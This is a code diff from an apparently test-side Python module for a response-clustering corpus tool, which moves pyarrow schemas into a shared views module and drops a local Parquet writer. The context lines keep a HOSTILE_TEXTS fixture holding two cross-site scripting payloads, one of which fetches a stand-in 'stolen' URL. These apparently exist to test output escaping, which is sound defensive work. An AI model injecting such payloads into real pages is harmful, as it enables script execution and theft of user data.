@@ -15,7 +15,6 @@ from typing import Any
 
 import numpy as np
 import pyarrow as pa
-import pyarrow.parquet as pq
 
 from hivemind_core.corpus.manifest import Manifest
 from hivemind_core.corpus.store import (
@@ -26,6 +25,7 @@ from hivemind_core.corpus.store import (
     write_tables,
 )
 from hivemind_core.corpus.tables import QUERIES, RESPONSES, build_rows
+from hivemind_core.corpus.views import CLUSTERS, POINTS, QUALITY, add_scope
 
 ENCODER = "made-up"
 MODELS = (("gpt-4o", None), ("gemini-1.5-pro", None), ("olmo2-7b", "plain"), ("olmo2-7b", "random"))
@@ -34,43 +34,6 @@ SAMPLES = 10
 PEOPLE = 8
 IDEAS = ("a river", "a thief", "a healer", "a loop", "a mirror")
 
-MAP = pa.schema(
-    [
-        ("response_id", pa.string()),
-        ("query_id", pa.string()),
-        ("source", pa.string()),
-        *((name, pa.float32()) for name in ("x", "y", "pca_x", "pca_y")),
-        ("cluster", pa.int32()),
-    ]
-)
-CLUSTERS = pa.schema(
-    [
-        ("query_id", pa.string()),
-        ("cluster", pa.int32()),
-        ("size", pa.int64()),
-        ("sources", pa.list_(pa.string())),
-        ("source_counts", pa.list_(pa.int64())),
-        ("models", pa.int64()),
-        ("medoid", pa.string()),
-        ("keywords", pa.list_(pa.string())),
-    ]
-)
-QUALITY = pa.schema(
-    [
-        ("query_id", pa.string()),
-        ("responses", pa.int64()),
-        ("distinct_texts", pa.int64()),
-        ("method", pa.string()),
-        ("n_neighbors", pa.int64()),
-        ("min_cluster_size", pa.int64()),
-        ("clusters", pa.int64()),
-        *(
-            (name, pa.float64())
-            for name in ("noise_share", "trustworthiness", "pca_trustworthiness", "stability")
-        ),
-        ("reason", pa.string()),
-    ]
-)
 HOSTILE_TEXTS = (
     "<script>document.title = 'broken'; fetch('http://example.com/stolen')</script>",
     "<img src=x onerror=\"document.title='broken'\">",
@@ -190,23 +153,17 @@ def write_views(
             groups.setdefault(category, []).append(query["query_id"])
     tables = _describe(rows, answers, {q["query_id"]: [q["query_id"]] for q in queries}, "query_id")
     named = {f"{name}.parquet": table for name, table in tables.items() if name != "maps"}
-    named["maps.parquet"] = pa.Table.from_pylist(rows, schema=MAP)
+    named["maps.parquet"] = pa.Table.from_pylist(rows, schema=POINTS)
     for name, table in _describe(rows, answers, groups, "category").items():
         named[f"category_{name.removeprefix('map_')}.parquet"] = table
     files: dict[str, pa.Table | bytes] = {
-        views_file(ENCODER, name): _format(table) for name, table in named.items()
+        views_file(ENCODER, name): table for name, table in named.items()
     }
     files[views_file(ENCODER, "summary.json")] = json.dumps(summarise(corpus, answers)).encode()
     files[views_file(ENCODER, "build.json")] = json.dumps(
         {"content_hash": corpus.manifest.content_hash}
     ).encode()
     return write_files(corpus, files, replace(corpus.manifest, encoders=(ENCODER,)))
-
-
-def _format(table: pa.Table) -> bytes:
-    sink = pa.BufferOutputStream()
-    pq.write_table(table, sink)
-    return bytes(sink.getvalue())
 
 
 def _map_row(corpus: Corpus, answer: dict[str, Any]) -> dict[str, Any]:
@@ -256,16 +213,10 @@ def _describe(
         mine = maps[len(maps) - len(members) :]
         clusters += [_cluster_row(column, name, c, mine, texts) for c in sorted(ranks.values())]
         quality.append(_quality_row(column, name, mine, texts))
-    first = [] if column == "query_id" else [pa.field("category", pa.string())]
-    rest = [] if column == "category" else [CLUSTERS.field("query_id")]
     return {
-        "maps": pa.Table.from_pylist(maps, schema=pa.schema([*first, *MAP])),
-        "clusters": pa.Table.from_pylist(
-            clusters, schema=pa.schema([*first, *rest, *list(CLUSTERS)[1:]])
-        ),
-        "map_quality": pa.Table.from_pylist(
-            quality, schema=pa.schema([*first, *rest, *list(QUALITY)[1:]])
-        ),
+        "maps": pa.Table.from_pylist(maps, schema=add_scope(column, POINTS)),
+        "clusters": pa.Table.from_pylist(clusters, schema=add_scope(column, CLUSTERS)),
+        "map_quality": pa.Table.from_pylist(quality, schema=add_scope(column, QUALITY)),
     }
 
 
